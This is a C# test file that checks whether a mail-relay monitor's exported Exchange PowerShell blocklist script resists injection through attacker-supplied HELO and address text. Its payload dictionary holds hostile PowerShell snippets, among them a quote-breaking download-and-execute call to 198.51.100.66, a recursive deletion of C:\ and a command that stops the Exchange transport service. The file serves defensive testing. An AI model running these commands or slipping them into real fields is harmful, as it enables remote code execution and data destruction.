using System.Management.Automation.Language;
using System.Text;
using RelayWatch.Analysis.Blocklists;
using RelayWatch.Hostile.Tests.Support;

namespace RelayWatch.Hostile.Tests;

/// <summary>
/// A finding's reason quotes what the attacker sent (a HELO, an address), and the Exchange export is a
/// script an administrator runs. Whatever a reason, a source or a severity says, PowerShell's own parser
/// must find in the script only the fixed removal and one <c>Add-IPBlockListEntry</c> per entry with
/// literal arguments — read as UTF-8 (PowerShell 7, or 5.1 seeing the byte order mark) and read as
/// Windows-1252 (what Windows PowerShell 5.1 assumes of a file without one).
/// </summary>
public sealed class AttackerTextReachingAScript : IDisposable
{
    private static readonly DateTime Now = new(2026, 11, 25, 1, 0, 0, DateTimeKind.Utc);

    /// <summary>What a remote client can put into a HELO or an address, each aimed at ending the comment's quotes.</summary>
    private static readonly Dictionary<string, string> Hostile = new(StringComparer.Ordinal)
    {
        ["U+2018 left single quote"] = "x\u2018; Start-Process calc; \u2018",
        ["U+2019 right single quote"] = "x\u2019;iex(New-Object Net.WebClient).DownloadString('http://198.51.100.66/a');\u2019",
        ["U+201A low single quote"] = "x\u201A; Remove-Item -Recurse C:\\; \u201A",
        ["U+201B reversed single quote"] = "x\u201B; Stop-Service MSExchangeTransport; \u201B",
        ["ASCII single quote"] = "x'; Start-Process calc; '",
        ["ASCII double quote"] = "x\"; Start-Process calc; \"",
        ["backtick"] = "x`'; Start-Process calc; `'",
        ["subexpression"] = "$(Start-Process calc)",
        ["semicolon"] = "dha; Start-Process calc",
        ["CR LF"] = "x\r\nStart-Process calc\r\n#",
        ["LF alone"] = "x\nStart-Process calc\n#",
        ["NEL U+0085"] = "x\u0085Start-Process calc\u0085#",
        ["line and paragraph separators"] = "x\u2028Start-Process calc\u2029#",
        ["NUL"] = "x\0'; Start-Process calc; '",
        ["bidi controls"] = "x\u202E'; clac ssecorP-tratS ;'\u202C\u2066\u2067\u2068\u2069\u200F",
        ["UTF-8 bytes that are quotes in Windows-1252"] = "x\u0451; Start-Process calc; \u0452 \u0453 \u0454",
        ["C1 characters 0x91-0x94"] = "x\u0091; Start-Process calc; \u0092 \u0093 \u0094",
        ["64 KiB field"] = string.Concat(Enumerable.Repeat("\u2019;Start-Process calc;\u2019 ", 65_536 / 24 + 1)),
    };

    private readonly string folder = Directory.CreateTempSubdirectory("relaywatch-hostile-").FullName;

    static AttackerTextReachingAScript() => Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);

    public static TheoryData<string> HostileKinds => [.. Hostile.Keys];

    public void Dispose() => Directory.Delete(folder, recursive: true);

    [Theory]
    [MemberData(nameof(HostileKinds))]
    public void TheScriptHoldsOnlyItsOwnCommandsWithLiteralArguments(string kind)
    {
        var published = Published(Hostile[kind]);

        var script = BlocklistFormats.Find("exchange").Render(published, Now);

        ExchangeScriptShape.AssertHoldsOnly(published, script);
        // Printable ASCII and newlines only: the same script in every code page.
        Assert.DoesNotContain(script, c => c is > '~' or (< ' ' and not '\n'));
    }

    [Theory]
    [MemberData(nameof(HostileKinds))]
    public async Task TheWrittenScriptHasAByteOrderMarkAndParsesAlikeAsUtf8AndAsWindows1252(string kind)
    {
        var published = Published(Hostile[kind]);
        var path = Path.Combine(folder, "relaywatch.ps1");

        await BlocklistExport.WriteAsync(BlocklistFormats.Find("exchange"), published, path, Now, CancellationToken.None);

        var bytes = await File.ReadAllBytesAsync(path);
        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var fromFile = Parser.ParseFile(path, out _, out var fileErrors);
        ExchangeScriptShape.AssertHoldsOnly(published, fromFile, fileErrors);
        ExchangeScriptShape.AssertHoldsOnly(published, Encoding.GetEncoding(1252).GetString(bytes, 3, bytes.Length - 3));
    }

    [Fact]
    public void AHostileDetectorNameInASourceNeverReachesTheComment()
    {
        var entry = Entry("203.0.113.7", "x", ["finding:dha\u2019;Start-Process calc;\u2019:2026-11-24", "finding:relay_probe:2026-11-24", "score:0.99\u2019;x:gbt", "member:203.0.113.9\u2019"]);

        var script = BlocklistFormats.Find("exchange").Render([entry], Now);

        // The member source names a network of listed members by our word, not by its text.
        Assert.EndsWith("-Comment 'RelayWatch: network, relay_probe, score; listed 2026-11-24'\n", script, StringComparison.Ordinal);
        var nothingNameable = BlocklistFormats.Find("exchange").Render([entry with { Sources = ["finding:Dha';x:2026-11-24", "x\u2019"] }], Now);
        Assert.EndsWith("-Comment 'RelayWatch: other; listed 2026-11-24'\n", nothingNameable, StringComparison.Ordinal);
    }

    private static IReadOnlyList<BlocklistEntry> Published(string hostile) =>
        BlocklistFormats.Published(
            [
                Entry("203.0.113.7", hostile, ["finding:dha:2026-11-24", $"finding:{hostile}:2026-11-24"]) with { Severity = hostile, ChangedBy = hostile },
                Entry("198.18.4.0/24", "relay_probe: " + hostile, [$"member:{hostile}", "finding:relay_probe:2026-11-24"]),
                Entry("2001:db8:5a0b::/48", hostile, [$"score:{hostile}:gbt-{hostile}"]),
                Entry("2001:db8:d031:b966::965", hostile, ["analyst", hostile]),
            ],
            new BlocklistGuard(new BlocklistSettings(), [], [], []),
            Now);

    private static BlocklistEntry Entry(string subject, string reason, IReadOnlyList<string> sources) =>
        new(subject, BlocklistActions.Listed, reason, sources, "high", new DateTime(2026, 11, 24, 3, 0, 0, DateTimeKind.Utc), Now.AddDays(6), "relaywatch", Now.AddDays(-1));
}
